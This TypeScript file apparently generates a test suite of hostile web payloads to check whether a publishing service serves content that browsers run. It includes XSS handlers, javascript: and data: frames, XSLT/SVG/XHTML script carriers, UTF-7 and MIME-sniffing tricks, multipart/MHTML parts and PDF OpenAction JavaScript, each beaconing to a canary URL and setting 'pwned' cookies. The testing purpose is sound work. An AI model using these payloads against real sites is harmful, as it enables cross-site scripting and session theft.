// Content that a publisher may put at /obj to act as the edge: markup, scripts and documents in every type that a browser
// runs, or once ran, and in types that are meant to be taken for others. Each tells the canary when it runs.

export interface Payload {
  /** In the folder that is published. */
  path: string;
  /** Given with --content-type; else the type follows from the path. */
  type?: string;
  body: string | Uint8Array;
}

const AS_HTML = [
  "text/html;charset=utf-7",
  "text/html; charset=nonsense",
  "TEXT/HTML",
  'text/html; charset="',
];
/** Types that have been run, unpacked or sniffed as a page by some browser or plug-in, and ones that say nothing. */
const AS_OTHER = [
  ...["text/plain", "text/plain; charset=utf-7", "application/octet-stream"],
  ...[
    "application/x-unknown",
    "unknown/unknown",
    "image/png",
    "image/x-icon",
    "application/json",
    "text/css",
  ],
  ...["application/hta", "text/x-component", "application/x-shockwave-flash"],
  ...["application/vnd.wap.xhtml+xml", "text/vnd.wap.wml", "application/signed-exchange;v=b3"],
  ...["application/webbundle", "text/cache-manifest", "text/event-stream", "video/mp4", "audio/mpeg"],
];
const WITH_COMMA = ["text/plain; x=, text/html", "text/plain; x=, application/xhtml+xml"];
const XHTML_NS = "http://www.w3.org/1999/xhtml";
const SVG_NS = "http://www.w3.org/2000/svg";

/** A script that tells what it can do, under the name in its page's query, else this one. */
function spy(canary: string, payload: string): string {
  return `(() => {
    const from = new URLSearchParams(location.search).get("from") || "${payload}";
    const say = (what) => fetch("${canary}/ran?payload=" + from + "&what=" + what, { method: "POST", mode: "no-cors" });
    say("script");
    const attempt = (what, work) => { try { if (work()) say(what); } catch {} };
    attempt("cookie", () => { document.cookie = "pwned=1"; return document.cookie.includes("pwned"); });
    attempt("storage", () => { localStorage.pwned = 1; return localStorage.pwned === "1"; });
    attempt("opener", () => opener.document.title !== undefined);
    attempt("fetch", () => { fetch("/status").then((answer) => answer.text()).then(() => say("fetch")).catch(() => 0); });
    attempt("sw", () => { navigator.serviceWorker.register("worker.js").then(() => say("service-worker")).catch(() => 0); });
  })()`;
}

/** All of them. `canary` is a URL without a slash at its end. */
export function hostilePayloads(canary: string): Payload[] {
  return [
    ...markup(canary),
    ...refreshes(canary),
    ...xml(canary),
    ...mistyped(canary),
    ...multipart(canary),
    ...others(canary),
  ];
}

/** A payload from a function of its script; `&`, `<` and quotes are the function's to escape. */
function payload(canary: string, path: string, body: (script: string) => string, type?: string): Payload {
  return { path, body: body(spy(canary, path)), ...(type === undefined ? {} : { type }) };
}

function markup(canary: string): Payload[] {
  const bodies: Record<string, (script: string) => string> = {
    inline: (script) => `<script>${script}</script>`,
    "external-script": () => `<script src="worker.js?from=external-script.html"></script>`,
    "external-module": () => `<base href="./"><script type="module" src="module.mjs"></script>`,
    importmap: () =>
      `<script type="importmap">{"imports":{"x":"./module.mjs"}}</script><script type="module">import "x"</script>`,
    "handler-error": (script) => `<img src=x: onerror="${attribute(script)}">`,
    "handler-load": (script) => `<body onload="${attribute(script)}">`,
    "handler-focus": (script) => `<input autofocus onfocus="${attribute(script)}">`,
    "svg-handler": (script) => `<svg onload="${attribute(script)}"></svg>`,
    "frame-javascript": (script) => `<iframe src="javascript:${attribute(script)}"></iframe>`,
    "frame-srcdoc": (script) => `<iframe srcdoc="<script>${attribute(script)}</script>"></iframe>`,
    "frame-data": (script) => `<iframe src="${attribute(dataUrl(`<script>${script}</script>`))}"></iframe>`,
    "frame-allowing": () =>
      `<iframe sandbox="allow-scripts allow-same-origin" src="inline.html?from=frame-allowing.html"></iframe>`,
    "object-html": () => `<object data="inline.html?from=object-html.html" type="text/html"></object>`,
    "embed-svg": () => `<embed src="script.svg?from=embed-svg.html" type="image/svg+xml">`,
    "own-policy": (script) =>
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${script}</script>`,
    template: (script) => `<div><template shadowrootmode="open"><script>${script}</script></template></div>`,
    "style-import": (script) =>
      `<style>@import "javascript:${script.replaceAll(/["\n]/g, "")}";</style><link rel="stylesheet" href="import.css"><script>${script}</script>`,
    manifest: (script) => `<link rel="manifest" href="app.webmanifest"><script>${script}</script>`,
    worker: () => `<script>new Worker("worker.js?from=worker.html");</script>`,
    "cookie-equiv": (script) => `<meta http-equiv="Set-Cookie" content="pwned=1"><script>${script}</script>`,
  };
  return Object.entries(bodies).map(([name, body]) => payload(canary, `${name}.html`, body));
}

function refreshes(canary: string): Payload[] {
  const to = (url: string) => `<meta http-equiv="refresh" content="0;url=${attribute(url)}">`;
  return [
    payload(canary, "refresh-away.html", () => to(`${canary}/ran?payload=refresh-away.html&what=went`)),
    payload(canary, "refresh-to-page.html", () => to("inline.html?from=refresh-to-page.html")),
    payload(canary, "refresh-javascript.html", (script) => to(`javascript:${script}`)),
    payload(canary, "refresh-data.html", (script) => to(dataUrl(`<script>${script}</script>`))),
  ];
}

function xml(canary: string): Payload[] {
  const element = (script: string) => `<script xmlns="${XHTML_NS}"><![CDATA[${script}]]></script>`;
  const page = (script: string) => `<html xmlns="${XHTML_NS}"><body>${element(script)}</body></html>`;
  const styled = (root: string) => `<?xml-stylesheet type="text/xsl" href="style.xsl"?><${root}/>`;
  const sheet = (script: string) =>
    `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${page(script)}</xsl:template></xsl:stylesheet>`;
  const bodies: Record<string, (script: string) => string> = {
    "page.xhtml": page,
    "page.xml": page,
    "feed.rss": (script) => `<rss version="2.0"><channel>${element(script)}</channel></rss>`,
    "feed.atom": (script) => `<feed xmlns="http://www.w3.org/2005/Atom">${element(script)}</feed>`,
    "formula.mathml": (script) =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML">${element(script)}</math>`,
    "style.xsl": sheet,
    "by-xslt.xml": () => styled("a"),
    "svg-by-xslt.svg": () => styled(`svg xmlns="${SVG_NS}"`),
    "xhtml-by-xslt.xhtml": () => styled(`html xmlns="${XHTML_NS}"`),
    "own-xslt.xml": (script) =>
      `<?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><a>${sheet(script).replace("<xsl:stylesheet", '<xsl:stylesheet id="s"')}</a>`,
    "script.svg": (script) => `<svg xmlns="${SVG_NS}"><script><![CDATA[${script}]]></script></svg>`,
    "handler.svg": (script) => `<svg xmlns="${SVG_NS}" onload="${attribute(script)}"/>`,
    "foreign.svg": (script) => `<svg xmlns="${SVG_NS}"><foreignObject>${page(script)}</foreignObject></svg>`,
  };
  return [
    ...Object.entries(bodies).map(([path, body]) => payload(canary, path, body)),
    payload(canary, "page-text-xml", page, "text/xml"),
    payload(canary, "page-any-xml", page, "application/anything+xml"),
  ];
}

function mistyped(canary: string): Payload[] {
  const page = (script: string) => `<!doctype html><html><body><script>${script}</script></body></html>`;
  const types = [...AS_HTML, ...AS_OTHER, ...WITH_COMMA];
  const utf7 = (script: string) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`;
  return [
    ...types.map((type, i) => payload(canary, `typed-${i}`, page, type)),
    payload(canary, "utf-7.html", utf7, "text/html; charset=utf-7"),
    {
      ...payload(canary, "utf-16.html", page),
      body: Buffer.from(`\ufeff${page(spy(canary, "utf-16.html"))}`, "utf16le"),
    },
    payload(canary, "no-extension", page),
    payload(canary, "picture.gif", (script) => `GIF89a${page(script)}`),
  ];
}

function multipart(canary: string): Payload[] {
  const part = (script: string) =>
    `--b\r\nContent-Type: text/html\r\nContent-Location: http://localhost/\r\nSet-Cookie: pwned=1\r\nContent-Security-Policy: script-src *\r\n\r\n<script>${script}</script>\r\n--b--\r\n`;
  const mhtml = (script: string) =>
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n${part(script)}`;
  const types = [
    "multipart/x-mixed-replace",
    "multipart/mixed",
    "multipart/form-data",
    "multipart/byteranges",
  ];
  return [
    ...types.map((type) => payload(canary, type.replace("/", "-"), part, `${type}; boundary=b`)),
    payload(canary, "archive.mhtml", mhtml, "multipart/related; boundary=b"),
    payload(canary, "archive.eml", mhtml),
    payload(canary, "archive-x", mhtml, "application/x-mimearchive"),
  ];
}

function others(canary: string): Payload[] {
  return [
    payload(canary, "worker.js", (script) => script),
    payload(canary, "module.mjs", (script) => `${script}; export default 1;`),
    payload(
      canary,
      "import.css",
      (script) =>
        `@import "javascript:1"; body { background: url("javascript:${script.replaceAll(/["\n]/g, "")}") }`,
    ),
    { path: "app.webmanifest", body: `{"start_url": "/", "scope": "/", "display": "standalone"}` },
    { path: "module.wasm", body: Buffer.from("0061736d01000000", "hex") },
    payload(canary, "open-action.pdf", (script) =>
      pdf(
        `/S /JavaScript /JS (app.launchURL\\("${canary}/ran?payload=open-action.pdf&what=went"\\); ${script.replaceAll(/[()\\]/g, "\\$&")})`,
      ),
    ),
    payload(canary, "uri-action.pdf", () =>
      pdf(`/S /URI /URI (${canary}/ran?payload=uri-action.pdf&what=went)`),
    ),
    payload(canary, "javascript-uri.pdf", (script) =>
      pdf(`/S /URI /URI (javascript:${script.replaceAll(/[()\\]/g, "\\$&")})`),
    ),
  ];
}

/** A page with an action that is to be done when it is opened. Readers rebuild the missing table of references. */
function pdf(action: string): string {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${action} >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
  ];
  const body = objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join("");
  return `%PDF-1.7\n${body}trailer << /Root 1 0 R /Size 4 >>\n%%EOF\n`;
}

function attribute(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
}

function dataUrl(html: string): string {
  return `data:text/html;base64,${Buffer.from(html).toString("base64")}`;
}
